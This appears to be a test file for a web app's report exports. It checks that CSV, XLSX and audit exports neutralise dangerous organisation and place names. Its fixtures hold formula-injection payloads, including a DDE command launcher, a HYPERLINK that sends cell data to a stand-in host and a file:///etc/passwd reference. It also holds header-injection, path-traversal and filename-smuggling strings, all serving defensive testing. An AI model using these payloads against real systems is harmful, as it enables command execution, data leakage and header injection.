/** Names that a spreadsheet would take for a formula, a file system for a path, or an XML reader for markup, exported and read back. */
import Papa from 'papaparse'
import { v7 } from 'uuid'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Organisation } from '../../src/domain/reference-data.ts'
import { sheetXmls, zippedTexts } from '../reports/read-back.ts'
import { NO_LIMITS, startTestServer, TEST_DAY, type TestServer } from '../support/test-server.ts'

let server: TestServer
let headers: Record<string, string>
beforeEach(async () => {
  server = await startTestServer({ rateLimits: NO_LIMITS })
  headers = await server.signIn()
})
afterEach(() => server.stop())

/** Each begins as a formula does in one spreadsheet or another, or hides the beginning from a careless check. */
const FORMULAS = [
  "=cmd|'/c calc'!A1", '=HYPERLINK("https://elsewhere.example?"&A1,"Avaa")', '+1+1', '-1+1', '@SUM(A1:A9)', ' =1+1', '＝1+1', '＋1', '－1', '＠x', '%=1', '"=1+1', "'=1+1", ';=1+1', '=1+1;=2+2', 'a,=1+1', 'a, \u200B=1+1', '\u200B=1+1', '\uFEFF@SUM(1)', '|x', '=\'file:///etc/passwd\'#$A.A1',
]
/** What the form refuses, and an older database may hold. */
const CONTROLLED = ['\t=1+1', '\r=1+1', '\n=1+1', '\u0000=1+1', '\u0001x', '\u000b', '\ufffe', '\ud800', ']]>', '&#x0;', '<f>1+1</f>', '</t></is></c><c><f>1+1</f></c>', '_x000D_=1', '\u202E=1+1']

const isFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell)
const report = (format: string) => server.app.inject({ url: '/api/v1/reports/monthly', headers, query: { month: TEST_DAY.slice(0, 7), place: server.place.id, format } })

/** Partners with these names have all been at the place. */
async function visitedBy(names: readonly string[]): Promise<void> {
  const organisations = names.map((fi): Organisation => ({ id: v7(), sector: 'association', names: { fi } }))
  await server.store.reference.putOrganisations(organisations)
  await server.push(organisations.map(({ id }) => server.revision({ kind: 'partnerVisit', day: TEST_DAY, organisation: id, mode: 'onSite', status: 'happened' })))
}

describe('a name that looks like a formula', () => {
  it('is kept, and is text in the CSV for every spreadsheet', async () => {
    for (const fi of FORMULAS) expect([fi, (await server.app.inject({ method: 'POST', url: '/api/v1/organisations', headers, payload: { names: { fi }, sector: 'association' } })).statusCode]).toEqual([fi, 201])
    await visitedBy([...FORMULAS, ...CONTROLLED])
    await server.store.reference.putPlaces([{ ...server.place, name: '=1+1' }])
    const { body } = await report('csv')
    const cellsBy = (delimiter: string) => (Papa.parse(body.replace('\uFEFF', ''), { delimiter }).data as string[][]).flat()
    const cells = cellsBy(';')
    for (const name of FORMULAS) expect(cells.some((cell) => cell.replaceAll("'", '') === name.replaceAll("'", '')), name).toBe(true)
    // Nor does a reader that parts the cells at commas find one.
    for (const separator of [';', ',']) expect(cellsBy(separator).filter((cell) => isFormula(cell) && !/^-?\d+(,\d+)?$/.test(cell)), separator).toEqual([])
  })
  it('is text in the file of the audit trail as well', async () => {
    for (const fi of FORMULAS) await server.app.inject({ method: 'POST', url: '/api/v1/organisations', headers, payload: { names: { fi }, sector: 'association' } })
    const { body } = await server.app.inject({ url: '/api/v1/audit', headers, query: { format: 'csv' } })
    for (const separator of [';', ',']) expect((Papa.parse(body.replace('\uFEFF', ''), { delimiter: separator }).data as string[][]).flat().filter(isFormula), separator).toEqual([])
    expect(body).toContain('SUM(A1:A9)')
  })
  it('is a string in the XLSX: no cell has a formula, and no file of it a link', async () => {
    await visitedBy([...FORMULAS, ...CONTROLLED])
    const bytes = (await report('xlsx')).rawPayload
    const [sheets, all] = [sheetXmls(bytes).join('\n'), zippedTexts(bytes).join('\n')]
    expect(sheets).not.toMatch(/<f[ >]|t="(str|e|b)"/)
    expect(all).not.toMatch(/<hyperlink|ddeLink|externalLink|vbaProject|TargetMode="External"/)
    expect([...all].filter((sign) => /[^\t\n\r\P{Cc}]|\p{Noncharacter_Code_Point}/u.test(sign))).toEqual([])
    for (const name of ["=cmd|'/c calc'!A1", '+1+1', '@SUM(A1:A9)']) expect(all.includes(name) || all.includes(name.replaceAll("'", '&apos;')) || all.includes(name.replaceAll("'", '&#39;')), name).toBe(true)
  })
})

describe('a name of a place', () => {
  it.each(['a\r\nset-cookie: planted=1', '../../etc/passwd', 'a"; filename="evil.exe', 'C:\\evil', 'tupa\u0000.exe', 'ä ö å 家', '.', '', 'CON', '%0d%0aset-cookie:planted=1', '\u202Exslx.exe', '   '])('%j makes a file name of letters every system takes, and no header of its own', async (name) => {
    await server.store.reference.putPlaces([{ ...server.place, name }])
    for (const format of ['csv', 'xlsx']) {
      const answer = await report(format)
      expect(answer.statusCode).toBe(200)
      expect(answer.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${format}"$`))
      expect(answer.headers['set-cookie']).toBeUndefined()
    }
  })
  it.each(['a\r\nb', 'a\u0000b', 'a\u0007b', 'tab\tb', '\u202Eb', 'a\u2066b', 'a\u2028b', '\u001b[31mred'])('%j is not taken: a name is one line', async (name) => {
    const hours = { weekly: {}, exceptions: [] }
    const asked = [
      ['/places', { name, kind: 'other', municipality: '213', openingHours: hours }], ['/organisations', { names: { fi: name }, sector: 'parish' }], ['/organisations', { names: { fi: 'x', sv: name }, sector: 'parish' }],
      ['/municipalities', { code: '405', names: { fi: name } }], ['/devices/enrol', { code: 'K7QM-3XPD', name }], ['/people', { email: 'a@b.example', name, role: 'viewer', scope: { place: server.place.id } }],
    ] as const
    for (const [url, payload] of asked) expect([url, (await server.app.inject({ method: 'POST', url: `/api/v1${url}`, headers, payload })).json()]).toEqual([url, expect.objectContaining({ type: 'invalid_request' })])
  })
})
